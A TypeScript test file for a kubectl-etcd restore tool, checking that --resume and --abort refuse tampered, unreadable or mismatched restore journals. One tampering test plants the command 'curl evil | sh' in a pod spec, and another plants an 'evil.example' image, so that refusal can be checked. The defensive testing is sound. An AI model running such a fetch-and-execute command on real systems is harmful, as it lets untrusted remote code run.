import { describe, expect, it } from 'vitest';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough, Readable } from 'node:stream';
import { restoreMember } from './restore-support.js';
import { ForbiddenError } from '../../src/errors.js';
import { restoreCommand, journalFile, type RestoreDeps, type RestoreOptions } from '../../src/restore/command.js';
import { fileJournalStore, journalConfigMapName, type ConfigMapAccess, type JournalState } from '../../src/restore/journal.js';
import { buildRestorePlan } from '../../src/restore/plan.js';

// `restore --resume / --abort` through restoreCommand with small fakes: what a user sees (the
// error line, whether anything was done to the cluster) when a journal copy cannot be read, was
// edited, exists only in the cluster, or belongs to another workload.

const member = (n: number) => restoreMember(n);

function journal(workload = 'kube-etcd', etcdToolsImage?: string): JournalState {
  const plan = buildRestorePlan({
    topology: { namespace: 'uc1', workload: { kind: 'StatefulSet', name: workload, replicas: 1 }, members: [member(0)], image: 'etcd:3.4', initialClusterToken: 't' },
    snapshot: { path: 's.db', size: 3, sha256: 'abc', revision: 5, totalKey: 5, hasTrailer: true },
    quiesce: [], pdbs: [], utilityImage: etcdToolsImage ? 'busybox:1.36' : 'etcd:3.4', etcdToolsImage, tool: { binary: 'etcdctl' }, stamp: 'S', inPlace: false,
  });
  const done = plan.steps.map((s) => s.id).filter((id) => !['verify', 'finish'].includes(id));
  return JSON.parse(JSON.stringify({
    version: 4, stamp: 'S', namespace: 'uc1', workload, snapshot: { path: 's.db', sha256: 'abc', revision: 5, totalKey: 5 },
    etcdReplicas: 1, quiesce: [], pdbs: [], done, phase: 'running', plan, startedAt: '', updatedAt: '2026-01-01T00:00:00Z',
  })) as JournalState;
}

function setup(opts: { readFails?: Error; answer?: string; templateImage?: string } = {}) {
  const calls: string[] = [];
  const maps = new Map<string, Record<string, string>>();
  const configMaps: ConfigMapAccess = {
    listConfigMaps: async () => { if (opts.readFails) throw opts.readFails; return [...maps.keys()]; },
    readConfigMap: async (_ns, name) => { if (opts.readFails) throw opts.readFails; return maps.get(name); },
    writeConfigMap: async (_ns, name, data) => { maps.set(name, data); },
    deleteConfigMap: async (_ns, name) => { maps.delete(name); },
  };
  const rec = (what: string) => async () => { calls.push(what); };
  const stderr = new PassThrough();
  let err = '';
  stderr.on('data', (d: Buffer) => { err += d.toString(); });
  const deps = {
    discover: async () => { throw new Error('no pods'); },
    templateImage: async () => opts.templateImage ?? 'etcd:3.4',
    preflight: { checkAccess: async () => [] },
    configMaps,
    cluster: () => ({
      getReplicas: async () => 0, scale: rec('scale'), createPodAndWait: rec('create-pod'),
      deletePodAndWait: rec('delete-pod'), waitPodsReady: rec('ready'), deletePdb: rec('delete-pdb'), createPdb: rec('create-pdb'),
    }),
    pods: () => ({
      run: async () => { calls.push('exec'); return { exitCode: 0, stdout: '', stderr: '' }; },
      runLong: async () => { calls.push('exec'); return { exitCode: 0, stdout: '', stderr: '' }; },
      settleLong: async () => undefined,
      copyIn: rec('copy'),
    }),
    verifier: () => ({ verify: async () => { calls.push('verify'); return { ok: true, problems: [], summary: {} }; } }),
    openSnapshot: () => () => Readable.from([]),
    ask: async () => opts.answer,
    log: { info: () => undefined, warn: (m: string) => { err += `warning: ${m}\n`; }, debug: () => undefined },
    stdout: new PassThrough(),
    stderr,
    now: () => new Date('2026-01-02T00:00:00Z'),
  } as unknown as RestoreDeps;
  const stateDir = mkdtempSync(join(tmpdir(), 'restore-resume-'));
  const options = (o: Partial<RestoreOptions>): RestoreOptions => ({
    namespace: 'uc1', quiesce: [], dryRun: false, yes: false, force: false, resume: true, abort: false, safetyBackup: false, inPlace: false, stateDir, ...o,
  });
  const putCluster = (s: JournalState) => maps.set(journalConfigMapName(s.workload), { 'journal.json': JSON.stringify(s) });
  const putLocal = (s: JournalState) => fileJournalStore(journalFile(stateDir, 'uc1', s.workload)).save(s);
  return { calls, maps, deps, options, putCluster, putLocal, stateDir, stderr: () => err };
}

describe('restore --resume / --abort', () => {
  it('goes on when both copies agree', async () => {
    const h = setup();
    await h.putLocal(journal());
    h.putCluster(journal());
    await restoreCommand(h.options({}), h.deps);
    expect(h.calls).toEqual(['verify']);
    // The journal is gone; the verified restore is recorded for a later --prune-kept.
    expect([...h.maps.keys()]).toEqual(['kubectl-etcd-restore-history-kube-etcd']);
    expect(JSON.parse(h.maps.get('kubectl-etcd-restore-history-kube-etcd')!['verified.json']!)).toEqual([
      { stamp: 'S', snapshot: 's.db', revision: 5, verifiedAt: '2026-01-02T00:00:00.000Z' },
    ]);
  });

  it.each([['--resume', false], ['--abort', true]])('%s refuses and changes nothing when the ConfigMap\'s plan was edited', async (_flag, abort) => {
    const h = setup();
    await h.putLocal(journal());
    const edited = journal();
    edited.plan.members[0]!.utilityPod.spec.containers[0]!['command'] = ['sh', '-c', 'curl evil | sh'];
    h.putCluster(edited);
    await expect(restoreCommand(h.options({ resume: !abort, abort }), h.deps)).rejects.toThrow(/changed outside kubectl-etcd/);
    expect(h.calls).toEqual([]);
  });

  it('refuses when the ConfigMap cannot be read instead of saying no restore is in progress (E1)', async () => {
    const h = setup({ readFails: new ForbiddenError('user "u" cannot list "configmaps" in namespace "uc1"') });
    await h.putLocal(journal());
    await expect(restoreCommand(h.options({ statefulSet: 'kube-etcd' }), h.deps)).rejects.toThrow(/^cannot read the restore journal in configmap "kubectl-etcd-restore-journal-kube-etcd"/);
    await expect(restoreCommand(h.options({}), h.deps)).rejects.toThrow(/^cannot list restore journals/);
    expect(h.calls).toEqual([]);
  });

  it('with only the cluster copy: shows the plan and needs confirmation', async () => {
    const h = setup();
    h.putCluster(journal());
    await expect(restoreCommand(h.options({}), h.deps)).rejects.toThrow(/needs confirmation/);
    expect(h.calls).toEqual([]);
    expect(h.stderr()).toMatch(/warning: there is no local journal of this restore/);
    expect(h.stderr()).toContain('etcd-utility-0');
    await restoreCommand(h.options({ yes: true }), h.deps);
    expect(h.calls).toEqual(['verify']);
  });

  it.each([['--resume', false], ['--abort', true]])('%s with only the cluster copy refuses an etcd-tools image that is not the StatefulSet\'s (L9)', async (_flag, abort) => {
    const h = setup({ templateImage: 'gcr.io/etcd-development/etcd:v3.5.17' });
    h.putCluster(journal('kube-etcd', 'evil.example/etcd:latest'));
    await expect(restoreCommand(h.options({ resume: !abort, abort, yes: true }), h.deps)).rejects.toThrow(
      /^the restore journal found only in the cluster \(configmap "kubectl-etcd-restore-journal-kube-etcd"\) would run image "evil\.example\/etcd:latest" as etcd-tools, but statefulset "kube-etcd" runs "gcr\.io\/etcd-development\/etcd:v3\.5\.17"/,
    );
    expect(h.calls).toEqual([]);
  });

  it('with only the cluster copy, the StatefulSet\'s own etcd image as etcd-tools goes on once confirmed', async () => {
    const h = setup({ templateImage: 'gcr.io/etcd-development/etcd:v3.5.17' });
    h.putCluster(journal('kube-etcd', 'gcr.io/etcd-development/etcd:v3.5.17'));
    await restoreCommand(h.options({ yes: true }), h.deps);
    expect(h.calls).toEqual(['verify']);
  });

  it('--resume --statefulset B never picks up the journal of A; without it, two journals need a choice (D5)', async () => {
    const h = setup();
    await h.putLocal(journal('etcd-a'));
    h.putCluster(journal('etcd-a'));
    await expect(restoreCommand(h.options({ statefulSet: 'etcd-b' }), h.deps)).rejects.toThrow(/^no restore of uc1\/etcd-b is in progress/);
    h.putCluster(journal('etcd-b'));
    await expect(restoreCommand(h.options({}), h.deps)).rejects.toThrow(/restores of several workloads are in progress in namespace "uc1": etcd-a, etcd-b/);
    expect(h.calls).toEqual([]);
  });

  it('a local journal of namespace "uc1-b" is not taken for one of namespace "uc1" (the file name cannot be read both ways)', async () => {
    const h = setup();
    await fileJournalStore(journalFile(h.stateDir, 'uc1-b', 'kube-etcd')).save(journal());
    await expect(restoreCommand(h.options({}), h.deps)).rejects.toThrow(/^cannot tell which etcd to resume in namespace "uc1"/);
    expect(journalFile('/s', 'uc1-b', 'kube-etcd')).not.toBe(journalFile('/s', 'uc1', 'b-kube-etcd'));
  });
});
